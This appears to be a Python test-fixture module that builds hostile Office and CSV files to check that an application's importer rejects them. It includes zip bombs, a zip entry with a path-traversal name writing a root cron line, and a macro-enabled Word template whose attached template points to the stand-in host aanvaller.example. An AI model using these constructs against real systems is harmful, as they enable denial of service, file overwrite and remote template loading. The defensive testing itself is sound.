"""Hand-made hostile files, shared by tests/test_hostile_files.py and bench/hostile_files.py.

Everything is built in memory from a real minimal XLSX (openpyxl) or ivp's own Word template;
big parts are written to the zip in chunks, so making a bomb costs little memory.
"""

import io
import zipfile
from pathlib import Path

from openpyxl import Workbook

TEMPLATE = Path(__file__).resolve().parents[1] / "src/ivp/reports/huisstijl/ivp-standaard.docx"
SHEET = "xl/worksheets/sheet1.xml"
SHEET_HEAD = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<dimension ref="{dimension}"/><sheetData>'
)
SHEET_TAIL = "</sheetData></worksheet>"


def xlsx(rows) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(list(row))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _replace(raw: bytes, replacements: dict, extra: dict | None = None) -> bytes:
    """A copy of zip `raw` with some parts replaced: bytes, or an iterable of byte chunks."""
    source = zipfile.ZipFile(io.BytesIO(raw))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for entry in source.infolist():
            content = replacements.get(entry.filename, source.read(entry.filename))
            _write(target, entry.filename, content)
        for name, content in (extra or {}).items():
            _write(target, name, content)
    return out.getvalue()


def _write(target: zipfile.ZipFile, name: str, content) -> None:
    if isinstance(content, bytes):
        target.writestr(name, content)
        return
    info = zipfile.ZipInfo(name)
    info.compress_type = zipfile.ZIP_DEFLATED
    with target.open(info, "w", force_zip64=True) as part:
        for chunk in content:
            part.write(chunk)


def _cell(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def row_bomb(rows: int, header=("actie", "status"), values=("Toezicht en handhaving", "lopend")):
    """An XLSX of `rows` rows that packs small (the issue's 344 KB held 1.1 million rows)."""

    def chunks():
        yield SHEET_HEAD.format(dimension=f"A1:B{rows}").encode()
        yield f'<row r="1">{_cell("A1", header[0])}{_cell("B1", header[1])}</row>'.encode()
        batch = []
        for number in range(2, rows + 1):
            batch.append(
                f'<row r="{number}">{_cell(f"A{number}", values[0])}'
                f"{_cell(f'B{number}', values[1])}</row>"
            )
            if len(batch) == 10_000:
                yield "".join(batch).encode()
                batch = []
        yield "".join(batch).encode() + SHEET_TAIL.encode()

    return _replace(xlsx([["a"]]), {SHEET: chunks()})


def wide_dimension() -> bytes:
    """A sheet that claims 16,384 columns and a million rows: read-only openpyxl pads to it."""
    body = (
        SHEET_HEAD.format(dimension="A1:XFD1048576")
        + '<row r="1">'
        + _cell("A1", "thema")
        + _cell("B1", "percentage")
        + "</row>"
        + "".join(
            f'<row r="{n}">{_cell(f"A{n}", "Ondermijning")}{_cell(f"XFD{n}", "x")}</row>'
            for n in range(2, 2_000)
        )
        + SHEET_TAIL
    )
    return _replace(xlsx([["a"]]), {SHEET: body.encode()})


def ratio_bomb(kind: str, megabytes: int) -> bytes:
    """An XLSX sheet or a DOCX body of `megabytes` MB of the same bytes: packs ~1000 times."""
    if kind == "xlsx":
        base, name, head, tail = xlsx([["a"]]), SHEET, SHEET_HEAD.format(dimension="A1"), ""
        filler = b"<row/>" * 170_000
        tail = SHEET_TAIL
    else:
        base, name = TEMPLATE.read_bytes(), "word/document.xml"
        head = (
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            "<w:body>"
        )
        filler = b"<w:p/>" * 170_000
        tail = "</w:body></w:document>"

    def chunks():
        yield head.encode()
        for _ in range(megabytes):
            yield filler
        yield tail.encode()

    return _replace(base, {name: chunks()})


def many_entries(kind: str, count: int) -> bytes:
    base = xlsx([["a"]]) if kind == "xlsx" else TEMPLATE.read_bytes()
    return _replace(base, {}, {f"extra/{n}.xml": b"<x/>" for n in range(count)})


def nested_zip(kind: str) -> bytes:
    base = xlsx([["a"]]) if kind == "xlsx" else TEMPLATE.read_bytes()
    inner = ratio_bomb(kind, 2)
    return _replace(base, {}, {"xl/embeddings/inner.zip": inner})


def unsafe_path(kind: str) -> bytes:
    base = xlsx([["a"]]) if kind == "xlsx" else TEMPLATE.read_bytes()
    return _replace(base, {}, {"../../etc/cron.d/ivp": b"* * * * * root true"})


def future_zip_version(raw: bytes) -> bytes:
    """A zip whose first part says it needs zip version 11.5 to unpack (Python knows 6.3)."""
    data = bytearray(raw)
    at = data.index(b"PK\x01\x02")
    data[at + 6 : at + 8] = (115).to_bytes(2, "little")
    return bytes(data)


def truncated(raw: bytes) -> bytes:
    return raw[: len(raw) // 2]


def sheetless() -> bytes:
    raw = xlsx([["thema", "percentage"], ["Ondermijning", 40]])
    workbook = zipfile.ZipFile(io.BytesIO(raw)).read("xl/workbook.xml")
    start, end = workbook.index(b"<sheets>"), workbook.index(b"</sheets>") + len(b"</sheets>")
    return _replace(raw, {"xl/workbook.xml": workbook[:start] + b"<sheets/>" + workbook[end:]})


def broken_sheet_xml() -> bytes:
    raw = xlsx([["thema", "percentage"], ["Ondermijning", 40]])
    return _replace(raw, {SHEET: SHEET_HEAD.format(dimension="A1:B2").encode() + b"<row r="})


MACRO_CONTENT_TYPE = b"application/vnd.ms-word.document.macroEnabled.main+xml"
MAIN_CONTENT_TYPE = (
    b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
)
ATTACHED_TEMPLATE = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/attachedTemplate" Target="file://aanvaller.example/Normal.dotm" '
    b'TargetMode="External"/></Relationships>'
)


def hostile_template(*, macros: bool = True, external: bool = True) -> bytes:
    """ivp's own template as a .docm with vbaProject.bin and/or an attachedTemplate on a server."""
    source = zipfile.ZipFile(io.BytesIO(TEMPLATE.read_bytes()))
    replacements, extra = {}, {}
    if macros:
        types = source.read("[Content_Types].xml").replace(MAIN_CONTENT_TYPE, MACRO_CONTENT_TYPE)
        types = types.replace(
            b"<Default Extension=",
            b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
            b"<Default Extension=",
            1,
        )
        rels = source.read("word/_rels/document.xml.rels").replace(
            b"</Relationships>",
            b'<Relationship Id="rId99" Type="http://schemas.microsoft.com/office/2006/'
            b'relationships/vbaProject" Target="vbaProject.bin"/></Relationships>',
        )
        replacements |= {"[Content_Types].xml": types, "word/_rels/document.xml.rels": rels}
        extra["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0" + b"Sub AutoOpen()" * 50
    if external:
        settings = source.read("word/settings.xml")
        at = settings.index(b">", settings.index(b"<w:settings")) + 1
        replacements["word/settings.xml"] = (
            settings[:at] + b'<w:attachedTemplate r:id="rId1"/>' + settings[at:]
        )
        extra["word/_rels/settings.xml.rels"] = ATTACHED_TEMPLATE
    return _replace(TEMPLATE.read_bytes(), replacements, extra)


def long_cell_csv(header: str, size: int) -> bytes:
    """A CSV whose second row has one cell longer than the csv module's field limit."""
    return f'{header}\n"{"x" * size}";lopend\n'.encode()
